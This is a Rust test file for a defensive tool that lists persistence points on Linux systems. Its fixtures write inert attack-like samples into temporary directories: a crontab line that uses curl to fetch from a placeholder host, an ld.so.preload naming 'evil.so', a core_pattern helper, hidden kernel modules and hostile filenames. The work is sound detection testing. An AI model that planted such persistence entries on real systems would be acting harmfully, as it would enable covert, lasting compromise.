//! A system made up, with something in every kind of place, and this system.

use std::collections::BTreeMap;
use std::os::unix::fs::symlink;
use std::path::Path;

use live::PersistenceKind::{
    AtJob, AuthorizedKeys, Autostart, Cron, DbusService, Inetd, InitScript, KernelHelper,
    KernelModule, KernelModuleConfiguration, LinkerConfiguration, LinkerPreload, Motd,
    NetworkScript, PackageHook, Pam, Polkit, RcLocal, ShellProfile, Ssh, Sudo, SystemdGenerator,
    SystemdTimer, SystemdUnit, Udev,
};
use live::{LiveOptions, PersistencePoint, PersistencePoints, Presence, list_persistence_points};

fn write(root: &Path, path: &str, content: &str) {
    let path = root.join(path);
    fs_err::create_dir_all(path.parent().unwrap()).unwrap();
    fs_err::write(path, content).unwrap();
}

fn link(root: &Path, path: &str, target: &str) {
    let path = root.join(path);
    fs_err::create_dir_all(path.parent().unwrap()).unwrap();
    symlink(target, path).unwrap();
}

fn points(root: &Path) -> PersistencePoints {
    list_persistence_points(&LiveOptions {
        root: root.to_owned(),
        ..LiveOptions::default()
    })
}

fn by_path(points: &PersistencePoints) -> BTreeMap<String, PersistencePoint> {
    points
        .items
        .iter()
        .map(|point| {
            let path = String::from_utf8_lossy(&point.path).into_owned();
            (path, point.clone())
        })
        .collect()
}

#[test]
fn finds_a_file_in_every_kind_of_place() {
    let places = [
        (AtJob, "var/spool/cron/atjobs/a0001"),
        (AuthorizedKeys, "home/ann/.ssh/authorized_keys"),
        (Autostart, "home/ann/.config/autostart/x.desktop"),
        (Cron, "var/spool/cron/crontabs/ann"),
        (DbusService, "usr/share/dbus-1/system-services/x.service"),
        (Inetd, "etc/xinetd.d/x"),
        (InitScript, "etc/init.d/x"),
        (KernelModuleConfiguration, "etc/modules-load.d/x.conf"),
        (LinkerConfiguration, "etc/ld.so.conf.d/x.conf"),
        (LinkerPreload, "etc/ld.so.preload"),
        (Motd, "etc/update-motd.d/x"),
        (NetworkScript, "etc/network/if-up.d/x"),
        (PackageHook, "etc/apt/apt.conf.d/x"),
        (Pam, "etc/pam.d/x"),
        (Polkit, "etc/polkit-1/rules.d/x.rules"),
        (RcLocal, "etc/rc.local"),
        (ShellProfile, "srv/www/.bashrc"),
        (Ssh, "root/.ssh/rc"),
        (Sudo, "etc/sudoers.d/x"),
        (SystemdGenerator, "usr/lib/systemd/system-generators/x"),
        (SystemdTimer, "etc/systemd/system/x.timer"),
        (SystemdUnit, "etc/systemd/system/x.service.d/y.conf"),
        (Udev, "etc/udev/rules.d/x.rules"),
    ];
    let root = tempfile::tempdir().unwrap();
    write(
        root.path(),
        "etc/passwd",
        "www:x:33:33::/srv/www/:/bin/sh\n",
    );
    for (_, path) in places {
        write(root.path(), path, "\n");
    }
    let points = points(root.path());
    assert_eq!(points.unread, []);
    let points = by_path(&points);
    assert_eq!(points.len(), places.len());
    for (kind, path) in places {
        let point = &points[&format!("/{path}")];
        assert_eq!(point.kind, kind, "{path}");
        let real = format!("/{path}").into_bytes();
        assert_eq!(point.presence, Presence::Present(real));
    }
}

#[test]
fn follows_links_and_what_files_name_inside_the_root() {
    let root = tempfile::tempdir().unwrap();
    let at = root.path();
    write(at, "opt/evil/run", "x");
    write(at, "usr/bin/curl", "x");
    write(at, "lib/evil.so", "x");
    write(at, "etc/ld.so.preload", "/lib/evil.so /lib/gone.so\n");
    write(
        at,
        "opt/units/x.service",
        "[Service]\nExecStart=/opt/evil/run --now\nExecStop=/opt/evil/missing\n",
    );
    link(at, "etc/systemd/system/x.service", "/opt/units/x.service");
    link(
        at,
        "etc/systemd/system/multi-user.target.wants/x.service",
        "../x.service",
    );
    link(at, "etc/systemd/system/masked.service", "/dev/null");
    link(at, "etc/systemd/system/lost.service", "/opt/units/lost");
    link(at, "etc/cron.d/out", "../../../../../../../../etc/hostname");
    write(
        at,
        "etc/crontab",
        "* * * * * root curl -o /tmp/x http://a.example/y\n",
    );
    write(at, "opt/evil/dump", "x");
    write(at, "proc/sys/kernel/core_pattern", "|/opt/evil/dump %p\n");
    write(at, "proc/sys/kernel/osrelease", "6.1\n");
    write(
        at,
        "proc/modules",
        "loaded 1 0 - Live 0x0\nfileless 1 0 - Live 0x0\n",
    );
    write(
        at,
        "lib/modules/6.1/modules.dep",
        "extra/loaded.ko.xz: a.ko\n",
    );
    write(at, "lib/modules/6.1/extra/loaded.ko.xz", "x");
    write(at, "sys/module/hidden/initstate", "live");
    write(at, "sys/module/builtin/version", "1");
    let listed = points(at);
    assert_eq!(listed.unread, []);
    let points = by_path(&listed);
    let by = |path: &str| {
        let point = &points[path];
        let by = point.pointed_at_by.clone().unwrap_or_default();
        let there = matches!(point.presence, Presence::Present(_));
        (point.kind, String::from_utf8(by).unwrap(), there)
    };
    let unit = "/etc/systemd/system/multi-user.target.wants/x.service".to_owned();
    assert_eq!(by("/opt/evil/run"), (SystemdUnit, unit.clone(), true));
    assert_eq!(by("/opt/evil/missing"), (SystemdUnit, unit, false));
    let pattern = "/proc/sys/kernel/core_pattern".to_owned();
    assert_eq!(by("/opt/evil/dump"), (KernelHelper, pattern, true));
    let preload = "/etc/ld.so.preload".to_owned();
    assert_eq!(by("/lib/evil.so"), (LinkerPreload, preload.clone(), true));
    assert_eq!(by("/lib/gone.so"), (LinkerPreload, preload, false));
    assert_eq!(by("/usr/bin/curl"), (Cron, "/etc/crontab".to_owned(), true));
    assert_eq!(by("/tmp/x"), (Cron, "/etc/crontab".to_owned(), false));
    let modules = "/proc/modules".to_owned();
    let loaded = "/lib/modules/6.1/extra/loaded.ko.xz";
    assert_eq!(by(loaded), (KernelModule, modules.clone(), true));
    assert_eq!(by("fileless.ko"), (KernelModule, modules, false));
    let hidden = "/sys/module/hidden".to_owned();
    assert_eq!(by("hidden.ko"), (KernelModule, hidden, false));
    assert!(!by("/etc/systemd/system/lost.service").2);
    // It leads out of the root, where nothing is followed.
    assert!(!by("/etc/cron.d/out").2);
    assert!(!points.contains_key("/etc/systemd/system/masked.service"));
    assert!(!points.contains_key("builtin.ko"));
    let unit = &points["/etc/systemd/system/x.service"];
    let real = b"/opt/units/x.service".to_vec();
    assert_eq!(unit.presence, Presence::Present(real));
}

#[test]
fn a_hostile_tree_costs_no_more_than_its_limits() {
    let root = tempfile::tempdir().unwrap();
    let at = root.path();
    let many: Vec<String> = (0..5_000)
        .map(|n| format!("* * * * * root /opt/{n}\n"))
        .collect();
    write(at, "etc/crontab", &many.concat());
    write(at, "etc/cron.d/\u{202e}x\n", "@reboot root /bin/\u{1}x\n");
    link(at, "etc/cron.daily/loop", "loop");
    link(at, "etc/cron.weekly", "cron.weekly");
    rustix::fs::mkfifoat(
        rustix::fs::CWD,
        at.join("etc/cron.d/pipe"),
        rustix::fs::Mode::RUSR,
    )
    .unwrap();
    let listed = points(at);
    let unread: Vec<String> = listed.unread.iter().map(ToString::to_string).collect();
    assert!(
        unread.contains(
            &"more that /etc/crontab names: more than the limit: what one file names".to_owned()
        ),
        "{unread:?}"
    );
    assert!(
        unread
            .iter()
            .any(|line| line.starts_with("/etc/cron.daily/loop: "))
    );
    assert!(listed.items.len() < 600);
    let few = list_persistence_points(&LiveOptions {
        root: at.to_owned(),
        point_count_max: 1,
        ..LiveOptions::default()
    });
    assert!(
        few.unread
            .iter()
            .any(|unread| unread.what == "more persistence points")
    );
}

#[test]
fn lists_this_system() {
    let listed = list_persistence_points(&LiveOptions::default());
    let points = by_path(&listed);
    for path in ["/etc/crontab", "/etc/profile", "/etc/pam.d/login"] {
        if Path::new(path).is_file() {
            assert!(points.contains_key(path), "{path}");
        }
    }
    let units = |point: &&PersistencePoint| point.kind == SystemdUnit;
    let there = Path::new("/usr/lib/systemd/system").is_dir();
    assert_eq!(points.values().find(units).is_some(), there);
}
